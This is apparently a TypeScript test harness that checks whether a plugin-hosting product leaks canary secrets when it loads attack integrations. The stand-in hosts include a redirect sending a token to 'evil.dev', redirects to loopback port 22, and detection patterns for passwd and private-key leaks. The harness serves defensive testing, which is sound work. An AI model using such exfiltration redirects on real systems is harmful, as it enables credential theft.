/** Where attacks are made: the built product, its neighbours, an internet that writes down what it hears, and things to steal. */
import { execFileSync } from 'node:child_process';
import { mkdir, rm, writeFile } from 'node:fs/promises';
import { type AddressInfo, createServer, type Server } from 'node:net';
import { basename, join } from 'node:path';
import { gzipSync } from 'node:zlib';
import type { FailureDetail } from '@fingerpost/contracts';
import { formsOf } from '../forms-of.ts';
import { githubPage, integration, Product, type StreamedEvent, saying, TOKEN } from '../product.ts';
import { type Answer, type Asked, StandIn } from '../stand-in.ts';
import { type Attack, slug } from './attack.ts';

/** Values that nobody but their owner may see, and the hosts where they may arrive. */
const CANARIES = {
  GOOD_TOKEN: { value: 'canary-of-the-neighbour-7f3a91', hosts: ['api.good.dev'] },
  ATTACK_TOKEN: { value: 'canary-of-the-attacker-5c20be', hosts: ['api.attack.dev', 'reflect.dev'] },
  FILE: { value: 'canary-in-a-file-outside-e1d944', hosts: [] },
  ENVIRONMENT: { value: 'canary-in-the-environment-08ac6d', hosts: [] },
  TOKEN: { value: TOKEN, hosts: [] },
};

const NEIGHBOURS = {
  'good-one.integration.js': saying('good-one', 'still here'),
  'good-secret.integration.js': integration(
    'good-secret',
    `const r = await fetch('https://api.good.dev/me', { headers: { authorization: 'Bearer ' + secrets.GOOD_TOKEN } }); return [{ type: 'text', content: (await r.json()).me }];`,
    `cache: 0, requiredSecrets: ['GOOD_TOKEN']`,
  ),
  'good-data.integration.js': integration(
    'good-data',
    `return [{ type: 'text', content: dataFiles.find(({ id }) => id === 'good').data.owner }];`,
  ),
  'good.data.yml': 'owner: team-good',
};
const GOOD = { 'good-one': 'still here', 'good-secret': 'good', 'good-data': 'team-good' };

export class Ground {
  private constructor(
    readonly product: Product,
    private readonly standIn: StandIn,
    private readonly loopback: Server,
    private readonly outside: string,
  ) {}

  /** Connections to a port of this machine: what listens there is nobody's business. */
  private heard = 0;
  private said = '';

  static async open(env: NodeJS.ProcessEnv): Promise<Ground> {
    const standIn = await StandIn.start();
    speak(standIn);
    const loopback = createServer((socket) => {
      ground.heard++;
      socket.end('HTTP/1.1 200 OK\r\n\r\n');
    }).listen(0, '127.0.0.1');
    let outside = '';
    const product = await Product.start(
      { ...NEIGHBOURS, 'grows.json': JSON.stringify(Array.from({ length: 90_000 }, (_, n) => `value ${n}`)) },
      {
        ...standIn.env,
        INTEGRATION_GOOD_TOKEN: CANARIES.GOOD_TOKEN.value,
        INTEGRATION_ATTACK_TOKEN: CANARIES.ATTACK_TOKEN.value,
        CANARY: CANARIES.ENVIRONMENT.value,
        LOG_LEVEL: 'debug',
        ...env,
      },
      async (folder) => {
        outside = `${folder}-outside`;
        await mkdir(outside);
        await writeFile(join(outside, 'keys.json'), JSON.stringify({ key: CANARIES.FILE.value }));
        await writeFile(join(outside, 'keys.txt'), CANARIES.FILE.value);
        execFileSync('mkfifo', [join(outside, 'pipe.map')]);
      },
    );
    const ground = new Ground(product, standIn, loopback, outside);
    await ground.seeThatNobodyIsHurt();
    return ground;
  }

  async close(): Promise<void> {
    await this.product.stop();
    await this.standIn.close();
    this.loopback.close();
    await rm(this.outside, { recursive: true, force: true });
  }

  /** Drops the files of all, with a newcomer that means well, and waits until each is taken in or refused. */
  async bring(attacks: readonly Attack[], newcomer: string): Promise<void> {
    for (const attack of attacks) {
      await attack.prepare?.(this.product.folder, this.outside);
      for (const [name, text] of Object.entries(attack.files)) await this.product.write(name, this.placed(text));
    }
    await this.product.write(`${newcomer}.integration.js`, saying(newcomer, 'welcome'));
    await this.product.until(async () => {
      const { entries } = await this.product.catalogue();
      const known = new Set(entries.map(({ file }) => file));
      return [`${newcomer}.integration.js`, ...attacks.flatMap(filesOf)].every((file) => known.has(file));
    }, 90_000);
    const page = githubPage('attack/nobody');
    await this.product.until(async () => (await this.product.ask(page)).integrationNames.includes(newcomer));
    await this.seeThatNobodyIsHurt({ [newcomer]: 'welcome' });
  }

  /** Asks, and tells what came of it; whoever else was asked must have answered. */
  async endOf(attack: Attack): Promise<string> {
    let end = '';
    for (const question of attack.questions ?? [{}])
      end = await this.toldBy(await this.ask(slug(attack.name), question));
    const { entries } = await this.product.catalogue();
    const refused = entries.find(({ file, fault }) => filesOf(attack).includes(file) && fault !== undefined);
    return refused === undefined ? end : `refused ${refused.fault?.message}`;
  }

  /** Who was hurt? Nobody. */
  async seeThatNobodyIsHurt(also: Record<string, string> = {}): Promise<void> {
    expect((await fetch(`${this.product.url}/health/ready`)).status).toBe(200);
    await this.ask('nobody', {}, also);
    expect(this.heard).toBe(0);
    expect(this.standIn.asked.filter(({ headers }) => 'x-smuggled' in headers)).toEqual([]);
    const seen = `${this.said}\n${this.product.log}\n${JSON.stringify(await this.product.catalogue())}`;
    for (const [name, { value, hosts }] of Object.entries(CANARIES)) {
      for (const form of formsOf(value)) expect(seen.includes(form) ? `${name} as ${form}` : '').toBe('');
      const where = this.standIn.asked.filter((asked) => holds(asked, value)).map(({ host }) => host);
      expect(where.filter((host) => !(hosts as string[]).includes(host))).toEqual([]);
    }
    expect(seen).not.toMatch(/root:x:|-----BEGIN|"d":"/);
    expect(seen).not.toContain('"msg":"forged line"');
  }

  private async ask(repository: string, question: object, also: Record<string, string> = {}): Promise<StreamedEvent[]> {
    const events = await this.product.stream(githubPage(`attack/${repository}`, { ...question, nonce: Math.random() }));
    this.said += JSON.stringify(events);
    const good: Record<string, string> = { ...GOOD, ...also };
    const answered = events
      .filter(({ event, data }) => event === 'insight' && Object.hasOwn(good, String(data.integration)))
      .map(({ data }) => [data.integration, (data.insight as { content: string }).content]);
    expect(Object.fromEntries(answered)).toEqual(good);
    return events;
  }

  private async toldBy(events: StreamedEvent[]): Promise<string> {
    const isTheirs = ({ data }: StreamedEvent) => !/^(good|newcomer)-/.test(String(data.integration));
    const failure = events.find((event) => event.event === 'failure' && isTheirs(event));
    if (failure !== undefined) {
      const detail = (await (await this.product.send(`/failures/${failure.data.id}`)).json()) as FailureDetail;
      this.said += JSON.stringify(detail);
      return `fails ${detail.code}: ${detail.message}`;
    }
    const insights = events.filter((event) => event.event === 'insight' && isTheirs(event));
    return `says ${insights.map(({ data }) => (data.insight as { content: string }).content).join('|')}`;
  }

  private placed(text: string): string {
    return text
      .replaceAll('OUTSIDE', `../${basename(this.outside)}`)
      .replaceAll('LOOPBACK', String((this.loopback.address() as AddressInfo).port));
  }
}

/** The files that the catalogue names: of data files only the broken ones are. */
const filesOf = ({ name, files }: Attack): string[] => {
  const named = (kind: string) => Object.keys(files).filter((file) => file.includes(`.${kind}.`));
  const [integrations, datas] = [named('integration'), named('data')];
  if (integrations.length + datas.length === 0) return [`${slug(name)}.integration.js`];
  return integrations.length > 0 ? integrations : datas;
};

const holds = ({ path, headers, body }: Asked, value: string) =>
  formsOf(value).some((form) => JSON.stringify([path, headers, body]).includes(form));

function speak(standIn: StandIn): void {
  standIn.speakFor('api.good.dev', ({ headers }) => ({
    body: { me: headers.authorization === `Bearer ${CANARIES.GOOD_TOKEN.value}` ? 'good' : 'nobody' },
  }));
  standIn.speakFor('api.attack.dev', ({ path, headers }) =>
    path === '/large' ? { body: 'x'.repeat(3_000_000) } : { body: headers },
  );
  standIn.speakFor('evil.dev', () => ({ body: {} }));
  standIn.speakFor('reflect.dev', ({ path, headers }) => reflect(path, headers));
}

function reflect(path: string, headers: Asked['headers']): ReturnType<Answer> {
  const token = String(headers['x-token']);
  const to = (location: string) => ({ status: 307, headers: { location } });
  switch (path) {
    case '/base64':
      return { body: Buffer.from(`token ${token}`).toString('base64') };
    case '/gzip':
      return { body: gzipSync(JSON.stringify(headers)), headers: { 'content-encoding': 'gzip' } };
    case '/as-headers':
      return { body: '', headers: { 'x-reflected': token, 'set-cookie': `t=${token}` } };
    case '/redirect-with-secret':
      return to(`https://evil.dev/?t=${token}`);
    case '/redirect-to-evil':
      return to('https://evil.dev/');
    case '/redirect-to-stranger':
      return to('https://stranger.dev/');
    case '/redirect-to-loopback':
      return to(`https://127.0.0.1:22/`);
    case '/redirect-for-ever':
      return to('https://reflect.dev/redirect-for-ever');
    default:
      return { body: headers };
  }
}
